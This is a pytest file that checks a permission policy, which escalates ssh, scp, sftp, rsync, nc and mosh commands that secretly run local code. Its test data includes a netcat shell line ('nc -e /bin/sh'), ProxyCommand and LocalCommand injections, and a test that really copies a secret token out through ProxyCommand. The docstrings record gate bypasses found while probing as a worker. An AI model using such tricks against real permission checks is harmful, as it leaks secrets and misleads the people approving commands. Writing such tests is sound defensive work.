"""A remote client's local commands are named in the question, and ``sftp HOST`` is
network access (see :mod:`exomonad.policy.shell_local_commands`).

Found probing as a worker: ``ssh -o ProxyCommand=CMD h`` ran ``CMD`` here (below, for
real, it copies the token out of the state dir) while the person was asked only about
"network access to h"; ``sftp h`` was allowed outright.
"""

from __future__ import annotations

import socket
import subprocess
from pathlib import Path

import pytest

from exomonad.policy.decisions import Escalate
from tests.policy.worker import bash, scratch_worktree

NAMED = [
    ("ssh -o ProxyCommand='nc %h %p' h", "ssh runs a local command: -o ProxyCommand=nc %h %p"),
    ("ssh -oLocalCommand=id -oPermitLocalCommand=yes h", "-o LocalCommand=id"),
    ("ssh -o 'KnownHostsCommand /bin/x' h", "-o KnownHostsCommand /bin/x"),
    ("ssh -F ./cfg h", "ssh runs a local command: -F ./cfg"),
    ("scp -S ./x.sh a h:b", "scp runs a local command: -S ./x.sh"),
    ("sftp -D /usr/lib/openssh/sftp-server", "sftp runs a local command: -D"),
    ("rsync -e 'sh -c id' a h:b", "rsync runs a local command: -e sh -c id"),
    ("rsync --rsh=./x a h:b", "rsync runs a local command: --rsh ./x"),
    ("nc -e /bin/sh h 1", "nc runs a local command: -e /bin/sh"),
    ("ncat --sh-exec id h 1", "ncat runs a local command: --sh-exec id"),
    ("mosh --ssh='sh -c id' h", "mosh runs a local command: --ssh sh -c id"),
]


@pytest.mark.parametrize(("command", "named"), NAMED)
def test_a_local_command_is_named_in_the_question(command: str, named: str) -> None:
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert named in verdict.reason, verdict.reason


@pytest.mark.parametrize(
    "command", ["ssh h ls", "ssh -p 2222 git@h", "rsync -e ssh a h:b", "rsync -e 'ssh -p 22' a h:b",
                "scp a h:b", "ncat h 80"],
)  # fmt: skip
def test_plain_connections_are_asked_as_network_access_only(command: str) -> None:
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert "runs a local command" not in verdict.reason, verdict.reason
    assert "network access to h" in verdict.reason, verdict.reason


def test_the_proxy_command_runs_here_and_is_shown(tmp_path: Path) -> None:
    root, wt = scratch_worktree(tmp_path)
    (root / ".exomonad").mkdir()
    (root / ".exomonad" / "lead.token").write_text("exo_secret")
    proxy = 'sh -c "cat ../../.exomonad/lead.token > leaked"'
    command = f"ssh -o BatchMode=yes -o ProxyCommand='{proxy}' 127.0.0.1 true"
    subprocess.run(["bash", "-c", command], cwd=wt, capture_output=True, timeout=60,
                   check=False)  # fmt: skip
    assert (wt / "leaked").read_text() == "exo_secret"  # ran here, whatever the host did
    verdict = bash(command, root=str(root))
    assert isinstance(verdict, Escalate), verdict
    assert f"ProxyCommand={proxy}" in verdict.reason, verdict.reason


def test_sftp_to_a_host_is_network_access(tmp_path: Path) -> None:
    """The real effect: ``sftp -P PORT 127.0.0.1`` connects (the listener reads its SSH
    banner); then the policy asks, where it allowed before."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(30)
        port = server.getsockname()[1]
        command = f"sftp -o BatchMode=yes -P {port} exo@127.0.0.1"
        client = subprocess.Popen(command.split(), cwd=tmp_path, stdin=subprocess.DEVNULL,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
        try:
            peer, _ = server.accept()
            with peer:
                peer.settimeout(30)
                assert peer.recv(64).startswith(b"SSH-2.0")
        finally:
            client.kill()
            client.wait(timeout=30)
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert "network access to 127.0.0.1" in verdict.reason, verdict.reason
    assert "network access to h" in bash("sftp h").reason


def test_a_long_remote_shell_is_read_in_linear_time() -> None:
    """Found trying the gate: the plain-ssh check was a regular expression with nested
    repeats, exponential on ``rsync -e 'ssh -p  -p ... !'`` (22 s for 14 pairs, a server
    thread held for ever at 30). It is read word by word now; the verdict is unchanged."""
    verdict = bash("rsync -e 'ssh" + " -p  -p" * 30 + " !' a h:b")
    assert isinstance(verdict, Escalate), verdict
    assert "rsync runs a local command" in verdict.reason
    assert "runs a local command" not in bash("rsync -e 'ssh" + " -p 22" * 30 + "' a h:b").reason
